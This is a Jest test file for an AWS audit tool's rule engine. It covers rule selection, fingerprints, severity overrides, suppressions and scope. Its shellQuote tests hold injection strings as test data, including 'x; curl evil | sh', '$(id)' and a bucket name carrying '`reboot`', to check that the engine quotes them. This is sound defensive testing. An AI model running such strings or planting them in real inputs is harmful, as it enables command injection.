import { describe, expect, it } from '@jest/globals';
import { ConfigError } from '../../src/config/load.js';
import { DEFAULT_CONFIG, type AuditConfig } from '../../src/config/schema.js';
import { fingerprintOf } from '../../src/findings/finding.js';
import { AuditContext } from '../../src/rules/context.js';
import { runRules } from '../../src/rules/engine.js';
import { defineRule, type Rule } from '../../src/rules/model.js';
import { selectRules } from '../../src/rules/select.js';
import { ACCOUNT, bareBucket, inventoryOf, resource } from '../support/inventory-builder.js';

const NOW = new Date('2026-11-25T12:00:00Z');

const bucket = bareBucket;

const meta = {
  title: 'A test rule over buckets',
  severity: 'medium' as const,
  category: 'hygiene' as const,
  resourceType: 's3:bucket' as const,
  reads: ['s3:bucket'] as const,
  description: 'Reports every bucket, for engine tests.',
  risk: 'None at all: this only exercises the engine.',
  remediation: { text: 'Nothing to do here.' },
};
const everyBucket = (id: string, extra: Partial<Parameters<typeof defineRule>[0]> = {}): Rule =>
  defineRule({ ...meta, id, ...extra }, (ctx) =>
    ctx.resources('s3:bucket').map((b) => ({ target: b, message: `bucket ${b.id}`, evidence: { id: b.id } })),
  );

const inventory = inventoryOf([bucket('logs', 'us-east-1', { team: 'ops' }), bucket('site', 'eu-west-2')]);
const withConfig = (partial: Partial<AuditConfig>): AuditConfig => ({
  ...DEFAULT_CONFIG,
  source: 'aws-audit.yml',
  ...partial,
});

describe('selectRules', () => {
  const rules = [
    everyBucket('s3.one'),
    everyBucket('s3.two'),
    everyBucket('ec2.three'),
    everyBucket('s3.off', { defaultEnabled: false }),
  ];
  const ids = (config: Partial<AuditConfig>) =>
    selectRules(rules, withConfig(config)).map((r) => r.metadata.id);

  it('runs the rules enabled by default', () => {
    expect(ids({})).toEqual(['s3.one', 's3.two', 'ec2.three']);
  });
  it('lets an exact enable beat a glob disable, and an exact disable beat everything', () => {
    expect(ids({ disable: ['s3.*'], enable: ['s3.two'] })).toEqual(['s3.two', 'ec2.three']);
    expect(ids({ disable: ['s3.two'], enable: ['s3.*'] })).toEqual(['s3.one', 'ec2.three', 's3.off']);
  });
  it('rejects names that match no rule, naming the file and the setting', () => {
    expect(() => selectRules(rules, withConfig({ disable: ['s3.tow'] }))).toThrow(ConfigError);
    expect(() => selectRules(rules, withConfig({ severity: { 'nope.*': 'low' } }))).toThrow(
      "aws-audit.yml: rules.severity names no rule: 'nope.*'",
    );
  });
  it('knows rules by their aliases', () => {
    const renamed = [everyBucket('s3.new-name', { aliases: ['s3.old-name'] })];
    expect(selectRules(renamed, withConfig({ disable: ['s3.old-name'] }))).toEqual([]);
  });
});

describe('runRules', () => {
  it('builds findings with stable fingerprints, metadata and filled CLI templates', () => {
    const rule = everyBucket('s3.one', {
      remediation: { text: 'Fix it now.', cli: 'aws s3api get-bucket-acl --bucket {id} --region {region}' },
    });
    const { findings } = runRules(inventory, DEFAULT_CONFIG, [rule], NOW);
    expect(findings.map((f) => f.fingerprint)).toEqual([
      fingerprintOf('s3.one', '111122223333', 'eu-west-2', 'arn:aws:s3:::site', null),
      fingerprintOf('s3.one', '111122223333', 'us-east-1', 'arn:aws:s3:::logs', null),
    ]);
    expect(findings[1]?.remediation.cli).toBe('aws s3api get-bucket-acl --bucket logs --region us-east-1');
    const partial = everyBucket('s3.two', {
      remediation: { text: 'Fix it now.', cli: 'aws s3 rb s3://{id} --{flag}' },
    });
    expect(runRules(inventory, DEFAULT_CONFIG, [partial], NOW).findings[0]?.remediation.cli).toBeNull();
    expect(runRules(inventory, DEFAULT_CONFIG, [rule], NOW).findings).toEqual(findings);
  });

  it('keeps fingerprints when a rule is renamed: they are made from its first id', () => {
    const before = runRules(inventory, DEFAULT_CONFIG, [everyBucket('s3.old-name')], NOW).findings;
    const renamed = everyBucket('s3.new-name', { aliases: ['s3.old-name'] });
    const after = runRules(inventory, DEFAULT_CONFIG, [renamed], NOW).findings;
    expect(after.map((f) => f.ruleId)).toEqual(['s3.new-name', 's3.new-name']);
    expect(after.map((f) => f.fingerprint)).toEqual(before.map((f) => f.fingerprint));
    // Renamed again: the oldest id still decides.
    const twice = everyBucket('s3.newest', { aliases: ['s3.old-name', 's3.new-name'] });
    expect(runRules(inventory, DEFAULT_CONFIG, [twice], NOW).findings.map((f) => f.fingerprint)).toEqual(
      before.map((f) => f.fingerprint),
    );
  });

  it('applies severity overrides by id or alias', () => {
    const rule = everyBucket('s3.one', { aliases: ['s3.legacy'] });
    expect(
      runRules(inventory, withConfig({ severity: { 's3.legacy': 'critical' } }), [rule], NOW).findings[0]
        ?.severity,
    ).toBe('critical');
  });

  it('applies severity overrides by glob, the longest matching glob winning and an exact id beating both', () => {
    const rules = [everyBucket('s3.bucket-one'), everyBucket('s3.other')];
    const severities = (severity: AuditConfig['severity']) => [
      ...new Set(
        runRules(inventory, withConfig({ severity }), rules, NOW).findings.map(
          (f) => `${f.ruleId}=${f.severity}`,
        ),
      ),
    ];
    expect(severities({ 's3.*': 'info' })).toEqual(['s3.bucket-one=info', 's3.other=info']);
    expect(severities({ 's3.*': 'info', 's3.bucket-*': 'critical' })).toEqual([
      's3.bucket-one=critical',
      's3.other=info',
    ]);
    expect(severities({ 's3.bucket-*': 'critical', 's3.bucket-one': 'low' })).toEqual([
      's3.other=medium',
      's3.bucket-one=low',
    ]);
  });

  it('suppresses by rule glob, resource glob or regex, account, region and tags, keeping the finding with its reason', () => {
    const suppress = (s: Partial<AuditConfig['suppressions'][number]>) =>
      runRules(
        inventory,
        withConfig({ suppressions: [{ rule: 's3.*', reason: 'known', source: 'aws-audit.yml:3:5', ...s }] }),
        [everyBucket('s3.one')],
        NOW,
      )
        .findings.filter((f) => f.suppressed)
        .map((f) => f.resource.id);
    expect(suppress({ resource: 'arn:aws:s3:::l*' })).toEqual(['logs']);
    expect(suppress({ resource: '/:site$/' })).toEqual(['site']);
    expect(suppress({ region: 'eu-*' })).toEqual(['site']);
    expect(suppress({ tags: { team: 'ops' } })).toEqual(['logs']);
    expect(suppress({ account: '999999999999' })).toEqual([]);
    expect(suppress({})).toEqual(['site', 'logs']);
  });

  it('stops applying an expired suppression and says so', () => {
    const config = withConfig({
      suppressions: [
        { rule: 's3.one', reason: 'temporary', expires: '2026-11-24', source: 'aws-audit.yml:7:5' },
      ],
    });
    const outcome = runRules(inventory, config, [everyBucket('s3.one')], NOW);
    expect(outcome.findings.every((f) => f.suppressed === null)).toBe(true);
    expect(outcome.warnings).toEqual([
      'The suppression at aws-audit.yml:7:5 (rule s3.one) expired on 2026-11-24; its findings are active again.',
    ]);
    const lastDay = runRules(inventory, config, [everyBucket('s3.one')], new Date('2026-11-24T23:59:00Z'));
    expect(lastDay.findings.every((f) => f.suppressed !== null)).toBe(true);
  });

  it('warns about a suppression whose resource matches nothing scanned, naming where it is written', () => {
    const suppression = (resource: string, source: string) => ({
      rule: 's3.*',
      reason: 'r',
      resource,
      source,
    });
    const warnings = (...resources: string[]) =>
      runRules(
        inventory,
        withConfig({ suppressions: resources.map((r, i) => suppression(r, `aws-audit.yml:${i + 3}:5`)) }),
        [everyBucket('s3.one')],
        NOW,
      ).warnings;
    expect(warnings('arn:aws:s3:::lgos', '/:site$/g', 'arn:aws:s3:::*')).toEqual([
      "The suppression at aws-audit.yml:3:5 (rule s3.*) matches no resource in the inventory: resource 'arn:aws:s3:::lgos'. Check the pattern, or remove the suppression.",
    ]);
    // Account- and region-wide findings have ARNs of their own, even when no rule reports them now.
    expect(
      warnings(
        `arn:aws:iam::${ACCOUNT}:root`,
        `arn:aws:ec2:eu-west-2:${ACCOUNT}:region`,
        'arn:aws:s3:::logs',
      ),
    ).toEqual([]);
    // A resource the inventory holds matches even when no finding is about it.
    const quiet = defineRule({ ...meta, id: 's3.quiet' }, () => []);
    const config = withConfig({ suppressions: [suppression('arn:aws:s3:::logs', 'aws-audit.yml:3:5')] });
    expect(runRules(inventory, config, [quiet], NOW).warnings).toEqual([]);
    // An expired suppression is reported as expired only.
    const expired = runRules(
      inventory,
      withConfig({
        suppressions: [{ ...suppression('arn:aws:s3:::nope', 'aws-audit.yml:9:5'), expires: '2020-01-01' }],
      }),
      [everyBucket('s3.one')],
      NOW,
    ).warnings;
    expect(expired).toEqual([expect.stringContaining('expired on 2020-01-01')]);
  });

  it('keeps findings inside the configured scope', () => {
    const config = withConfig({ scope: { regions: ['us-east-1'], services: null } });
    expect(
      runRules(inventory, config, [everyBucket('s3.one')], NOW).findings.map((f) => f.resource.id),
    ).toEqual(['logs']);
    const other = withConfig({ scope: { regions: null, services: ['ec2'] } });
    const noVolumes = defineRule(
      { ...meta, id: 'ec2.none', resourceType: 'ec2:volume', reads: ['ec2:volume'] },
      () => [],
    );
    expect(runRules(inventory, other, [everyBucket('s3.one'), noVolumes], NOW).findings).toEqual([]);
  });

  it('scopes account- and region-wide findings by the service their rule checks', () => {
    const noBudget = defineRule(
      { ...meta, id: 'budgets.none', resourceType: 'aws:account', reads: ['budgets:budget'] },
      (ctx) =>
        ctx
          .accounts()
          .map((account) => ({ target: ctx.accountTarget(account), message: 'no budget', evidence: {} })),
    );
    const rules = [noBudget, everyBucket('s3.one')];
    const budgetsListed = inventoryOf(inventory.resources, {
      emptyScopes: [{ type: 'budgets:budget', region: 'global' }],
    });
    const scoped = (services: string[]) =>
      runRules(budgetsListed, withConfig({ scope: { regions: null, services } }), rules, NOW).findings.map(
        (f) => f.ruleId,
      );
    expect(scoped(['s3'])).toEqual(['s3.one', 's3.one']);
    expect(scoped(['budgets'])).toEqual(['budgets.none']);
  });

  it('rejects a scope service no rule covers, naming where it is written', () => {
    const config = withConfig({
      scope: { regions: null, services: ['s3', 'ec2s'] },
      locations: { 'scope.services.1': 'aws-audit.yml:4:15' },
    });
    expect(() => runRules(inventory, config, [everyBucket('s3.one')], NOW)).toThrow(
      "aws-audit.yml:4:15: scope.services names no service the rules cover: 'ec2s' (one of: s3)",
    );
  });

  it('reports a rule that throws as a warning and still runs the others', () => {
    const broken = defineRule({ ...meta, id: 's3.broken' }, () => {
      throw new Error('boom');
    });
    const outcome = runRules(inventory, DEFAULT_CONFIG, [broken, everyBucket('s3.one')], NOW);
    expect(outcome.warnings).toEqual(['Rule s3.broken failed and reported nothing: boom']);
    expect(outcome.findings).toHaveLength(2);
  });

  it('refuses a rule the types it does not declare, and reports that as a warning', () => {
    // Reports the account when its volumes were not listed: reads ec2:volume through listed().
    const volumesUnlisted = (reads: Parameters<typeof defineRule>[0]['reads']) =>
      defineRule({ ...meta, id: 's3.volumes-unlisted', resourceType: 'aws:account', reads }, (ctx) =>
        ctx.listed(ACCOUNT, 'ec2:volume', 'us-east-1')
          ? []
          : [{ target: ctx.accountTarget(ACCOUNT), message: 'volumes not listed', evidence: {} }],
      );
    const readsVolumes = defineRule({ ...meta, id: 's3.reads-volumes' }, (ctx) =>
      ctx.resources('ec2:volume').map((v) => ({ target: v, message: 'volume', evidence: {} })),
    );
    const rules = [volumesUnlisted(['s3:bucket']), readsVolumes, everyBucket('s3.one')];
    const outcome = runRules(inventory, DEFAULT_CONFIG, rules, NOW);
    expect(outcome.warnings).toEqual([
      'Rule s3.volumes-unlisted failed and reported nothing: Rule s3.volumes-unlisted read ec2:volume, which neither its metadata.reads nor its consults declare',
      'Rule s3.reads-volumes failed and reported nothing: Rule s3.reads-volumes read ec2:volume, which neither its metadata.reads nor its consults declare',
    ]);
    expect(outcome.findings.map((f) => f.ruleId)).toEqual(['s3.one', 's3.one']);
    // Declared, it runs; its finding rests on volumes nobody listed, so the engine drops it.
    const declared = runRules(inventory, DEFAULT_CONFIG, [volumesUnlisted(['ec2:volume'])], NOW);
    expect(declared.warnings).toEqual([]);
    expect(declared.findings).toEqual([]);
    expect(declared.rules[0]?.scopes).toEqual([
      { account: ACCOUNT, region: 'global', status: 'not-scanned' },
    ]);
  });

  it('gives each rule a view over indexes built once', () => {
    const audit = new AuditContext(inventory, DEFAULT_CONFIG, NOW);
    const first = audit.forRule(everyBucket('s3.one')).resources('s3:bucket');
    expect(first.map((b) => b.id)).toEqual(['logs', 'site']);
    expect(audit.forRule(everyBucket('s3.two')).resources('s3:bucket')).toBe(first);
  });
});

describe('shellQuote (CLI templates get attacker-controlled names)', () => {
  it('leaves plain ids alone and quotes anything a shell would interpret', async () => {
    const { shellQuote } = await import('../../src/rules/engine.js');
    expect(shellQuote('sg-0abc')).toBe('sg-0abc');
    expect(shellQuote('/aws/lambda/fn')).toBe('/aws/lambda/fn');
    expect(shellQuote('x; curl evil | sh')).toBe("'x; curl evil | sh'");
    expect(shellQuote("it's $(id)")).toBe("'it'\\''s $(id)'");
  });

  it('quotes names filled into a remediation command', () => {
    const rule = everyBucket('s3.one', {
      remediation: { text: 'Fix it now.', cli: 'aws s3api delete-bucket --bucket {name}' },
    });
    const evil = inventoryOf([
      resource('s3:bucket', 'b', bucket('b', 'us-east-1').attributes, { name: 'b`reboot`' }),
    ]);
    expect(runRules(evil, DEFAULT_CONFIG, [rule], NOW).findings[0]?.remediation.cli).toBe(
      "aws s3api delete-bucket --bucket 'b`reboot`'",
    );
  });
});

describe('citations per finding', () => {
  const citing = defineRule(
    {
      ...meta,
      id: 's3.citing',
      references: { fsbp: ['S3.2', 'S3.3'], cis: ['3.1.4'], docs: ['https://x.test'] },
    },
    (ctx) =>
      ctx.resources('s3:bucket').map((b) => ({
        target: b,
        message: `bucket ${b.id}`,
        evidence: {},
        // logs narrows its FSBP citations (and names one the rule does not cite); site keeps the rule's.
        ...(b.id === 'logs' ? { references: { fsbp: ['S3.3', 'S3.99'] } } : {}),
      })),
  );

  it("narrows the rule's citations to the hit's, never adds one the rule does not cite, and keeps docs", () => {
    const findings = runRules(inventory, DEFAULT_CONFIG, [citing], NOW).findings;
    expect(findings.map((f) => [f.resource.id, f.references])).toEqual([
      ['site', { fsbp: ['S3.2', 'S3.3'], cis: ['3.1.4'], docs: ['https://x.test'] }],
      ['logs', { fsbp: ['S3.3'], cis: ['3.1.4'], docs: ['https://x.test'] }],
    ]);
  });
});
